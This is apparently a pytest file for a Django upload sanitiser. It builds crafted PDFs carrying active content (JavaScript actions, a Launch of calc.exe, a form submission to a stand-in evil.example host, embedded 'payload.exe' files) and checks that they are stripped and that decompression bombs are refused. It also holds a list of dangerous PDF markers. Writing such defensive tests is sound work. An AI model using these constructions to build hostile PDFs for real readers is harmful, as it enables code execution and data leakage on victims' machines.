"""A corpus of crafted PDFs (issue 16): every active content is removed from an uploaded proof, and
decompression bombs (pixels, pages) are refused before they cost memory.

Each PDF is built here with pypdf (the library the project uses), with one kind of active content;
the cleaned file must contain none of the markers, and must keep its page and its plain links.
"""

from io import BytesIO

import pytest
from django.core.exceptions import ValidationError
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from parcours.protection import uploads
from parcours.protection.uploads import clean_proof
from tests.protection.factories import upload

DANGEROUS = (b"/JavaScript", b"/JS", b"/Launch", b"/EmbeddedFile", b"/SubmitForm", b"/ImportData",
             b"/GoToR", b"/OpenAction", b"/AA", b"app.alert", b"calc.exe", b"/FileAttachment", b"/Rendition", b"javascript:")  # fmt: skip


def everything_in(content: bytes) -> set[str]:
    """Every name, key and text of the PDF's object graph, decoded (strings are escaped in the bytes)."""
    seen, found = set(), set()

    def visit(obj, depth=0):
        if depth > 60:
            return
        if hasattr(obj, "idnum"):
            if (obj.idnum, obj.generation) in seen:
                return
            seen.add((obj.idnum, obj.generation))
            obj = obj.get_object()
        if isinstance(obj, dict):
            for key, value in obj.items():
                found.add(str(key))
                visit(value, depth + 1)
            if hasattr(obj, "get_data"):
                found.add(obj.get_data().decode("latin-1"))
        elif isinstance(obj, list):
            for item in obj:
                visit(item, depth + 1)
        else:
            found.add(str(obj))

    visit(PdfReader(BytesIO(content)).trailer)
    return found


def active_content(content: bytes) -> list[str]:
    texts = everything_in(content)
    markers = [m.decode() for m in DANGEROUS]
    return sorted({m for m in markers for t in texts if m.lower() in t.lower()})


def _name(value):
    return NameObject(value)


def _action(kind: str, **extra) -> DictionaryObject:
    action = DictionaryObject({_name("/Type"): _name("/Action"), _name("/S"): _name(kind)})
    for key, value in extra.items():
        action[_name(f"/{key}")] = value
    return action


def _js(code: str = "app.alert('calc.exe')") -> DictionaryObject:
    return _action("/JavaScript", JS=TextStringObject(code))


def _annotation(writer, subtype: str, **extra):
    annotation = DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name(subtype),
            _name("/Rect"): ArrayObject(
                [FloatObject(10), FloatObject(10), FloatObject(100), FloatObject(40)]
            ),
        }
    )
    for key, value in extra.items():
        annotation[_name(f"/{key}")] = value
    reference = writer._add_object(annotation)
    page = writer.pages[0]
    page.setdefault(_name("/Annots"), ArrayObject()).append(reference)
    return annotation


def crafted(build) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    build(writer)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def _embedded_file(writer):
    stream = DecodedStreamObject()
    stream.set_data(b"MZ calc.exe payload")
    stream[_name("/Type")] = _name("/EmbeddedFile")
    spec = DictionaryObject(
        {
            _name("/Type"): _name("/Filespec"),
            _name("/F"): TextStringObject("payload.exe"),
            _name("/EF"): DictionaryObject({_name("/F"): writer._add_object(stream)}),
        }
    )
    return writer._add_object(spec)


def _form_field_with_script(writer):
    field = DictionaryObject(
        {
            _name("/FT"): _name("/Tx"),
            _name("/T"): TextStringObject("nom"),
            _name("/AA"): DictionaryObject({_name("/K"): _js(), _name("/F"): _js()}),
        }
    )
    field_ref = writer._add_object(field)
    _annotation(writer, "/Widget", Parent=field_ref, AA=DictionaryObject({_name("/Fo"): _js()}), A=_js())
    writer.root_object[_name("/AcroForm")] = DictionaryObject(
        {_name("/Fields"): ArrayObject([field_ref]), _name("/JS"): TextStringObject("app.alert(1)")}
    )


CORPUS = {
    "javascript_on_a_link": lambda w: _annotation(w, "/Link", A=_js()),
    "launch_action_on_a_link": lambda w: _annotation(
        w, "/Link", A=_action("/Launch", F=TextStringObject("calc.exe"))
    ),
    "submit_form_on_a_link": lambda w: _annotation(
        w, "/Link", A=_action("/SubmitForm", F=TextStringObject("https://evil.example/"))
    ),
    "import_data_on_a_link": lambda w: _annotation(
        w, "/Link", A=_action("/ImportData", F=TextStringObject("x.fdf"))
    ),
    "remote_goto_on_a_link": lambda w: _annotation(
        w, "/Link", A=_action("/GoToR", F=TextStringObject("calc.exe"))
    ),
    "javascript_uri_on_a_link": lambda w: _annotation(
        w, "/Link", A=_action("/URI", URI=TextStringObject("javascript:app.alert('calc.exe')"))
    ),
    "javascript_chained_after_a_web_link": lambda w: _annotation(
        w, "/Link", A=_action("/URI", URI=TextStringObject("https://www.caf.fr/"), Next=_js())
    ),
    "additional_actions_on_an_annotation": lambda w: _annotation(
        w, "/Link", AA=DictionaryObject({_name("/E"): _js()})
    ),
    "form_field_scripts": _form_field_with_script,
    "file_attachment_annotation": lambda w: _annotation(w, "/FileAttachment", FS=_embedded_file(w)),
    "embedded_files_name_tree": lambda w: w.root_object.__setitem__(
        _name("/Names"),
        DictionaryObject(
            {
                _name("/EmbeddedFiles"): DictionaryObject(
                    {_name("/Names"): ArrayObject([TextStringObject("payload.exe"), _embedded_file(w)])}
                ),
                _name("/JavaScript"): DictionaryObject(
                    {_name("/Names"): ArrayObject([TextStringObject("auto"), w._add_object(_js())])}
                ),
            }
        ),
    ),
    "document_open_action": lambda w: w.root_object.__setitem__(_name("/OpenAction"), w._add_object(_js())),
    "page_open_action": lambda w: w.pages[0].__setitem__(
        _name("/AA"), DictionaryObject({_name("/O"): _js()})
    ),
    "rendition_on_a_screen": lambda w: _annotation(
        w, "/Screen", A=_action("/Rendition", JS=TextStringObject("app.alert(1)"))
    ),
}


@pytest.mark.parametrize("kind", sorted(CORPUS))
def test_every_active_content_is_removed(kind):
    original = crafted(CORPUS[kind])
    assert active_content(original), "the crafted PDF carries no active content"
    clean = clean_proof(upload("preuve.pdf", original))
    found = active_content(clean.content) + [m.decode() for m in DANGEROUS if m in clean.content]
    assert not found, f"{kind}: still in the cleaned PDF: {found}"
    assert len(PdfReader(BytesIO(clean.content)).pages) == 1


def test_a_plain_web_link_and_an_internal_link_are_kept():
    def build(writer):
        _annotation(writer, "/Link", A=_action("/URI", URI=TextStringObject("https://www.caf.fr/")))
        _annotation(writer, "/Link", A=_action("/GoTo", D=ArrayObject([NumberObject(0), _name("/Fit")])))

    clean = clean_proof(upload("preuve.pdf", crafted(build)))
    annotations = [a.get_object() for a in PdfReader(BytesIO(clean.content)).pages[0]["/Annots"]]
    assert [a["/A"]["/S"] for a in annotations] == ["/URI", "/GoTo"]
    assert annotations[0]["/A"]["/URI"] == "https://www.caf.fr/"


def test_a_pdf_with_too_many_pages_is_refused_before_it_is_read():
    writer = PdfWriter()
    for _ in range(uploads.MAX_PDF_PAGES + 1):
        writer.add_blank_page(width=10, height=10)
    out = BytesIO()
    writer.write(out)
    with pytest.raises(ValidationError, match=f"plus de {uploads.MAX_PDF_PAGES} pages"):
        clean_proof(upload("preuve.pdf", out.getvalue()))


def test_a_small_png_of_huge_dimensions_is_refused_from_its_header():
    out = BytesIO()
    Image.new("1", (7700, 7700)).save(out, format="PNG")  # a few kilobytes on the wire, 59 megapixels
    assert len(out.getvalue()) < 200_000
    with pytest.raises(ValidationError, match="Image trop grande"):
        clean_proof(upload("photo.png", out.getvalue()))
